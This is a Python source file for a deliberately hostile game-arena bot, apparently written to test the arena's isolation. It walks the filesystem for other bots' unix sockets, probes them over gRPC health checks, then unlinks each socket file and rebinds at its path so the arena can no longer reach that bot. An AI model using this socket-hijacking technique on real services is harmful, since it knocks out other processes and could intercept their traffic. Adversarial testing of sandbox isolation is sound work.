"""A hostile bot that looks for the other bots' unix sockets, talks to them and takes
them over, then plays legally.

From start-up, every ``--period-s``, it looks for sockets: ``arena-bot-*/*.sock`` in /tmp
and in its temporary folder, and (every tenth time) any socket file found by a walk
(``--walk-s`` at most) of the temporary folders, /run and /; and once more on its first
decision. For each bot socket but its own it:

* connects to it (``connected``) and asks its gRPC health service (``spoke``: it
  answered SERVING; a bot frozen between its calls does not);
* takes one that accepted the connection over (``bound``): removes the socket file and
  listens at its path itself, closing whatever connects, so that the arena's next
  connection to that bot fails.

Safety: it touches (connects to, takes over) only the sockets of its own arena
(``arena-bot-<arena pid>-*`` folders next to its own); other sockets it only lists.

Report: ``{"attack": "takeover", "own": path, "sockets_seen": [...], "connected": [...],
"spoke": [...], "bound": [...]}`` whenever something changed.
"""

from __future__ import annotations

import glob
import os
import socket
import stat
import tempfile
import threading
import time
from collections import deque

import _hostile
import grpc
from grpc_health.v1 import health_pb2, health_pb2_grpc

from arena.sdk import View

SKIP_ROOTS = {"/proc", "/sys", "/dev"}
SKIP_NAMES = {".git", "node_modules", "__pycache__", ".venv", "site-packages"}


def find_sockets(walk_s: float) -> set[str]:
    found: set[str] = set()
    for root in {"/tmp", tempfile.gettempdir()}:
        found.update(glob.glob(os.path.join(root, "arena-bot-*", "*.sock")))
    if walk_s <= 0:
        return found
    deadline = time.monotonic() + walk_s
    queue: deque[str] = deque([tempfile.gettempdir(), "/tmp", "/run", "/"])
    seen: set[str] = set()
    while queue and time.monotonic() < deadline:
        folder = queue.popleft()
        if folder in seen or folder in SKIP_ROOTS:
            continue
        seen.add(folder)
        try:
            entries = list(os.scandir(folder))
        except OSError:
            continue
        for entry in entries:
            try:
                if entry.is_dir(follow_symlinks=False):
                    if entry.name not in SKIP_NAMES:
                        queue.append(entry.path)
                elif stat.S_ISSOCK(entry.stat(follow_symlinks=False).st_mode):
                    found.add(entry.path)
            except OSError:
                continue
    return found


def is_bot_socket(path: str) -> bool:
    return os.path.basename(os.path.dirname(path)).startswith("arena-bot-")


def in_reach(path: str) -> bool:
    """Only the bot sockets of its own arena."""
    return is_bot_socket(path) and _hostile.same_arena_socket(path)


def connects(path: str) -> bool:
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(0.5)
    try:
        s.connect(path)
        return True
    except OSError:
        return False
    finally:
        s.close()


def serving(path: str) -> bool:
    channel = grpc.insecure_channel(f"unix:{path}")
    try:
        stub = health_pb2_grpc.HealthStub(channel)
        reply = stub.Check(health_pb2.HealthCheckRequest(service=""), timeout=0.5)
        return bool(reply.status == health_pb2.HealthCheckResponse.SERVING)
    except grpc.RpcError:
        return False
    finally:
        channel.close()


def hold(server: socket.socket) -> None:
    """Accept and close at once, for ever: the hijacked bot answers nothing."""
    while True:
        try:
            conn, _ = server.accept()
            conn.close()
        except OSError:
            return


def take(path: str) -> socket.socket | None:
    try:
        os.unlink(path)
    except OSError:
        pass
    server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    try:
        server.bind(path)
        server.listen(16)
    except OSError:
        server.close()
        return None
    threading.Thread(target=hold, args=(server,), daemon=True).start()
    return server


class Attack:
    """The attack's state; :meth:`once` is one pass (the first decision makes one, so
    that a short game cannot end before the bot has tried)."""

    def __init__(self, walk_s: float) -> None:
        self.walk_s = walk_s
        self.own = _hostile.own_socket()
        self.lock = threading.Lock()
        self.passes = 0
        self.seen: set[str] = set()
        self.connected: set[str] = set()
        self.spoke: set[str] = set()
        self.bound: dict[str, socket.socket] = {}
        self.tried: set[str] = set()
        self.decided = False

    def once(self) -> None:
        with self.lock:
            self.passes += 1
            before = (len(self.seen), len(self.connected), len(self.spoke), len(self.bound))
            # the globs every time; the (slower) walk now and then
            walk_s = self.walk_s if self.passes % 10 == 1 else 0
            for path in sorted(find_sockets(walk_s)):
                if path == self.own or path in self.bound:
                    continue
                self.seen.add(path)
                if path in self.tried or not in_reach(path):
                    continue
                self.tried.add(path)
                if not connects(path):
                    continue
                self.connected.add(path)
                if serving(path):
                    self.spoke.add(path)
                server = take(path)
                if server is not None:
                    self.bound[path] = server
            now = (len(self.seen), len(self.connected), len(self.spoke), len(self.bound))
            if self.passes == 1 or now != before:
                _hostile.report("takeover", own=self.own, sockets_seen=sorted(self.seen)[:40],
                                connected=sorted(self.connected), spoke=sorted(self.spoke),
                                bound=sorted(self.bound))

    def first(self) -> None:
        """At the first decision every other bot is serving: one pass then, in full."""
        if not self.decided:
            self.decided = True
            self.once()

    def forever(self, period_s: float) -> None:
        while True:
            self.once()
            time.sleep(period_s)


class Takeover(_hostile.Legal):
    name = "hostile-takeover"

    def __init__(self, attack: Attack) -> None:
        super().__init__()
        self.attack = attack

    def bid(self, view: View) -> int:
        self.attack.first()
        return super().bid(view)

    def play(self, view: View) -> int:
        self.attack.first()
        return super().play(view)


if __name__ == "__main__":
    p = _hostile.parser(__doc__ or "")
    p.add_argument("--period-s", type=float, default=0.3)
    p.add_argument("--walk-s", type=float, default=0.3)
    args, rest = _hostile.parse(p)
    attack = Attack(args.walk_s)
    threading.Thread(target=attack.forever, args=(args.period_s,), daemon=True).start()
    _hostile.serve(Takeover(attack), rest)
